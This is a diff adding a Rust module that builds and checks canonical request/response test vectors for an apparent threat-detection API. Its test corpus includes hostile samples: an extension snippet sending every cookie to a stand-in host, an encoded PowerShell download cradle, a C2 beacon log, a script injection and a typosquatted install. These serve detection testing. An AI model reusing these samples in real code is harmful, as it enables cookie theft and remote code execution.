@@ -0,0 +1,414 @@
+// rust/api/src/testvectors.rs
+//! Canonical request/response pairs for client SDK conformance
+//!
+//! The vectors are not stored anywhere: each set is generated by running a
+//! fixed corpus of requests through validation and detection under the
+//! running global configuration, without a tenant. A set is identified by
+//! the response schema version, the corpus version and the rules
+//! generation it was computed under, so a schema bump or a rule change
+//! yields a new set. Fields that differ from call to call (timings,
+//! signatures, cache flags, fingerprint history) are left out of the
+//! expected responses and ignored when verifying.
+
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+use serde_json::{json, Value};
+
+use crate::config::Settings;
+use crate::{validation, ThreatDetectionRequest, ThreatDetectionResponse};
+
+/// Bumped whenever the corpus below changes
+pub const CORPUS_VERSION: u32 = 6;
+
+/// Response fields left out of vectors and ignored when verifying
+pub const IGNORED_FIELDS: &[&str] = &[
+    "latency_ms",
+    "total_latency_ms",
+    "cached",
+    "fuzzy_cached",
+    "idempotent_replay",
+    "signature",
+    "detection_id",
+    "previously_seen",
+    "trace",
+];
+
+/// Longest URL common browsers accept
+const MAX_URL_LENGTH: usize = 2083;
+
+/// Numbers closer than this compare equal, absorbing f32 round trips
+const NUMBER_TOLERANCE: f64 = 1e-4;
+
+struct Case {
+    name: &'static str,
+    description: &'static str,
+    path: &'static str,
+    body: fn() -> Value,
+}
+
+const DETECT: &str = "/api/detect";
+const BATCH: &str = "/api/detect/batch";
+
+/// Also the source of the warmup canaries, which name their cases
+const CORPUS: &[Case] = &[
+    Case {
+        name: "url_benign",
+        description: "Plain HTTPS URL on a well-known domain",
+        path: DETECT,
+        body: || json!({ "threat_type": "url", "content": "https://www.wikipedia.org/wiki/Rust" }),
+    },
+    Case {
+        name: "url_phishing",
+        description: "Brand lookalike on a raw IP with a phishing context",
+        path: DETECT,
+        body: || json!({
+            "threat_type": "url",
+            "content": "http://203.0.113.7/paypa1/login",
+            "context": "Please verify your account",
+        }),
+    },
+    Case {
+        name: "url_ip_host",
+        description: "URL addressed by raw IP",
+        path: DETECT,
+        body: || json!({ "threat_type": "url", "content": "http://192.168.13.37/admin/login.php" }),
+    },
+    Case {
+        name: "url_doh_tunnel",
+        description: "DNS-over-HTTPS query whose name carries base32-encoded data",
+        path: DETECT,
+        body: || json!({
+            "threat_type": "url",
+            "content": "https://cloudflare-dns.com/dns-query?name=ovzwk4r5mfwgsy3fhnygc43thvugk3romvzdeo3i.x.example.net&type=TXT",
+        }),
+    },
+    Case {
+        name: "url_max_length",
+        description: "URL at the longest length browsers accept",
+        path: DETECT,
+        body: || {
+            let base = "https://example.com/path?q=";
+            json!({ "threat_type": "url", "content": format!("{}{}", base, "a".repeat(MAX_URL_LENGTH - base.len())) })
+        },
+    },
+    Case {
+        name: "code_benign",
+        description: "Harmless script",
+        path: DETECT,
+        body: || json!({ "threat_type": "code", "content": "def add(a, b):\n    return a + b\n" }),
+    },
+    Case {
+        name: "code_malicious",
+        description: "Obfuscated script injection",
+        path: DETECT,
+        body: || json!({ "threat_type": "code", "content": "<script>eval(atob('YWxlcnQoMSk='))</script>" }),
+    },
+    Case {
+        name: "code_extension_cookie_exfil",
+        description: "Extension sending every cookie to a remote server",
+        path: DETECT,
+        body: || json!({ "threat_type": "code", "content": "chrome.cookies.getAll({}, (cookies) => {\n  fetch('https://collect.example.net/c', { method: 'POST', body: JSON.stringify(cookies) });\n});" }),
+    },
+    Case {
+        name: "code_extension_benign",
+        description: "Extension opening its options page in a tab",
+        path: DETECT,
+        body: || json!({ "threat_type": "code", "content": "chrome.action.onClicked.addListener(() => {\n  chrome.tabs.create({ url: chrome.runtime.getURL('options.html') });\n});" }),
+    },
+    Case {
+        name: "action_typosquat",
+        description: "Install of a misspelled popular package",
+        path: DETECT,
+        body: || json!({ "threat_type": "action", "content": "pip install reqeusts" }),
+    },
+    Case {
+        name: "action_beacon",
+        description: "Regular-interval contacts with one host, like a C2 heartbeat",
+        path: DETECT,
+        body: || json!({ "threat_type": "action", "content": "10:00:00 GET https://c2.example.net/hb\n10:00:30 GET https://c2.example.net/hb\n10:01:00 GET https://c2.example.net/hb\n10:01:31 GET https://c2.example.net/hb" }),
+    },
+    Case {
+        name: "action_bot_timing",
+        description: "Form submissions exactly two seconds apart, as a script sends them",
+        path: DETECT,
+        body: || json!({ "threat_type": "action", "content": "12:00:00 submit login form\n12:00:02 submit login form\n12:00:04 submit login form\n12:00:06 submit login form\n12:00:08 submit login form\n12:00:10 submit login form" }),
+    },
+    Case {
+        name: "action_human_timing",
+        description: "Form submissions at the uneven pace of a person",
+        path: DETECT,
+        body: || json!({ "threat_type": "action", "content": "12:00:00 open settings page\n12:00:07 edit display name\n12:00:31 upload avatar\n12:00:34 crop avatar\n12:01:12 save profile\n12:01:20 open inbox" }),
+    },
+    Case {
+        name: "action_encoded_spawn",
+        description: "PowerShell launched through cmd.exe with an encoded download cradle",
+        path: DETECT,
+        body: || json!({ "threat_type": "action", "content": "spawn cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAuAHAAcwAxACcAKQA=" }),
+    },
+    Case {
+        name: "action_benign_spawn",
+        description: "PowerShell launched to run a build script by path",
+        path: DETECT,
+        body: || json!({ "threat_type": "action", "content": "spawn powershell.exe -NoProfile -File .\\build.ps1 -Configuration Release" }),
+    },
+    Case {
+        name: "action_empty_context",
+        description: "Routine action with an empty context string",
+        path: DETECT,
+        body: || json!({ "threat_type": "action", "content": "list files in the current directory", "context": "" }),
+    },
+    Case {
+        name: "code_unicode",
+        description: "Content with non-ASCII letters, emoji and a right-to-left mark",
+        path: DETECT,
+        body: || json!({ "threat_type": "code", "content": "print(\"héllo wörld 👋 \u{200f}مرحبا\")" }),
+    },
+    Case {
+        name: "invalid_threat_type",
+        description: "Unknown threat type is rejected with a violation",
+        path: DETECT,
+        body: || json!({ "threat_type": "email", "content": "hello" }),
+    },
+    Case {
+        name: "batch_mixed",
+        description: "Batch of one benign and one malicious item",
+        path: BATCH,
+        body: || json!({ "threats": [
+            { "threat_type": "url", "content": "https://www.wikipedia.org/" },
+            { "threat_type": "code", "content": "<script>eval(atob('YWxlcnQoMSk='))</script>" },
+        ] }),
+    },
+    Case {
+        name: "batch_failing_item",
+        description: "Batch with an empty item; the whole batch is rejected",
+        path: BATCH,
+        body: || json!({ "threats": [
+            { "threat_type": "url", "content": "https://www.wikipedia.org/" },
+            { "threat_type": "code", "content": "   " },
+        ] }),
+    },
+];
+
+/// One canonical exchange
+#[derive(Debug, Clone, Serialize)]
+pub struct Vector {
+    pub name: &'static str,
+    pub description: &'static str,
+    pub method: &'static str,
+    pub path: &'static str,
+    pub request: Value,
+    pub status: u16,
+    pub response: Value,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct VectorSet {
+    /// `<schema>.<corpus>.<rules generation>`
+    pub version: String,
+    pub schema_version: u32,
+    pub corpus_version: u32,
+    pub rules_generation: u64,
+    pub generated_at: DateTime<Utc>,
+    pub ignored_fields: &'static [&'static str],
+    pub vectors: Vec<Vector>,
+}
+
+impl VectorSet {
+    /// Whether this set was generated for the given schema and rules
+    pub fn is_current(&self, schema_version: u32, rules_generation: u64) -> bool {
+        self.schema_version == schema_version
+            && self.corpus_version == CORPUS_VERSION
+            && self.rules_generation == rules_generation
+    }
+}
+
+/// Request body of the single-detection corpus case `name`
+pub fn case_body(name: &str) -> Option<Value> {
+    CORPUS.iter().find(|case| case.name == name && case.path == DETECT).map(|case| (case.body)())
+}
+
+/// Run the corpus through validation and `detect`
+pub fn generate(
+    settings: &Settings,
+    detect: impl Fn(&ThreatDetectionRequest) -> ThreatDetectionResponse,
+    schema_version: u32,
+    rules_generation: u64,
+    now: DateTime<Utc>,
+) -> VectorSet {
+    let vectors = CORPUS
+        .iter()
+        .map(|case| {
+            let request = (case.body)();
+            let outcome = if case.path == BATCH {
+                validation::batch_request(request.clone(), settings).map(|batch| {
+                    let results: Vec<Value> = batch.threats.iter().map(|t| canonical(&detect(t))).collect();
+                    json!({ "results": results })
+                })
+            } else {
+                validation::detection_request(request.clone(), settings).map(|req| canonical(&detect(&req)))
+            };
+            let (status, response) = match outcome {
+                Ok(response) => (200, response),
+                Err(violations) => (400, crate::invalid_request_body(&violations)),
+            };
+            Vector {
+                name: case.name,
+                description: case.description,
+                method: "POST",
+                path: case.path,
+                request,
+                status,
+                response,
+            }
+        })
+        .collect();
+    VectorSet {
+        version: format!("{}.{}.{}", schema_version, CORPUS_VERSION, rules_generation),
+        schema_version,
+        corpus_version: CORPUS_VERSION,
+        rules_generation,
+        generated_at: now,
+        ignored_fields: IGNORED_FIELDS,
+        vectors,
+    }
+}
+
+fn canonical(response: &ThreatDetectionResponse) -> Value {
+    let mut value = serde_json::to_value(response).unwrap_or_default();
+    strip_ignored(&mut value);
+    value
+}
+
+fn strip_ignored(value: &mut Value) {
+    match value {
+        Value::Object(fields) => {
+            fields.retain(|key, _| !IGNORED_FIELDS.contains(&key.as_str()));
+            fields.values_mut().for_each(strip_ignored);
+        }
+        Value::Array(items) => items.iter_mut().for_each(strip_ignored),
+        _ => {}
+    }
+}
+
+/// Responses a client computed for the vectors
+#[derive(Debug, Deserialize)]
+pub struct Submission {
+    /// Version of the set the client worked from
+    pub version: Option<String>,
+    pub results: Vec<SubmittedResult>,
+}
+
+#[derive(Debug, Deserialize)]
+pub struct SubmittedResult {
+    pub name: String,
+    pub status: Option<u16>,
+    pub response: Value,
+}
+
+/// One field that differs from the vector
+#[derive(Debug, Serialize)]
+pub struct Mismatch {
+    pub vector: String,
+    /// JSON pointer into the response; `#status` for the status code
+    pub pointer: String,
+    pub expected: Option<Value>,
+    pub actual: Option<Value>,
+}
+
+#[derive(Debug, Serialize)]
+pub struct Report {
+    pub version: String,
+    /// The submission named a different set version
+    pub stale: bool,
+    pub total: usize,
+    pub passed: usize,
+    pub failed: usize,
+    pub mismatches: Vec<Mismatch>,
+    /// Vectors the submission has no result for
+    pub missing: Vec<&'static str>,
+    /// Results that name no vector
+    pub unknown: Vec<String>,
+}
+
+/// Compare a client's results with the set, field by field
+pub fn verify(set: &VectorSet, submission: Submission) -> Report {
+    let mut mismatches = Vec::new();
+    let mut unknown = Vec::new();
+    let mut passed = 0;
+    let mut failed = 0;
+    for result in &submission.results {
+        let Some(vector) = set.vectors.iter().find(|v| v.name == result.name) else {
+            unknown.push(result.name.clone());
+            continue;
+        };
+        let before = mismatches.len();
+        if let Some(status) = result.status.filter(|s| *s != vector.status) {
+            mismatches.push(Mismatch {
+                vector: result.name.clone(),
+                pointer: "#status".to_string(),
+                expected: Some(json!(vector.status)),
+                actual: Some(json!(status)),
+            });
+        }
+        diff(&result.name, "", Some(&vector.response), Some(&result.response), &mut mismatches);
+        if mismatches.len() == before {
+            passed += 1;
+        } else {
+            failed += 1;
+        }
+    }
+    let missing = set
+        .vectors
+        .iter()
+        .filter(|v| !submission.results.iter().any(|r| r.name == v.name))
+        .map(|v| v.name)
+        .collect();
+    Report {
+        version: set.version.clone(),
+        stale: submission.version.is_some_and(|v| v != set.version),
+        total: set.vectors.len(),
+        passed,
+        failed,
+        mismatches,
+        missing,
+        unknown,
+    }
+}
+
+fn diff(vector: &str, pointer: &str, expected: Option<&Value>, actual: Option<&Value>, out: &mut Vec<Mismatch>) {
+    let mismatch = |out: &mut Vec<Mismatch>| {
+        out.push(Mismatch {
+            vector: vector.to_string(),
+            pointer: pointer.to_string(),
+            expected: expected.cloned(),
+            actual: actual.cloned(),
+        })
+    };
+    match (expected, actual) {
+        (Some(Value::Object(expected)), Some(Value::Object(actual))) => {
+            let mut keys: Vec<&String> = expected.keys().chain(actual.keys()).collect();
+            keys.sort();
+            keys.dedup();
+            for key in keys.into_iter().filter(|k| !IGNORED_FIELDS.contains(&k.as_str())) {
+                let child = format!("{}/{}", pointer, key.replace('~', "~0").replace('/', "~1"));
+                diff(vector, &child, expected.get(key), actual.get(key), out);
+            }
+        }
+        (Some(Value::Array(expected)), Some(Value::Array(actual))) => {
+            for index in 0..expected.len().max(actual.len()) {
+                diff(vector, &format!("{}/{}", pointer, index), expected.get(index), actual.get(index), out);
+            }
+        }
+        (Some(Value::Number(a)), Some(Value::Number(b))) => {
+            let close = match (a.as_f64(), b.as_f64()) {
+                (Some(a), Some(b)) => (a - b).abs() <= NUMBER_TOLERANCE,
+                _ => a == b,
+            };
+            if !close {
+                mismatch(out);
+            }
+        }
+        (expected, actual) if expected != actual => mismatch(out),
+        _ => {}
+    }
+}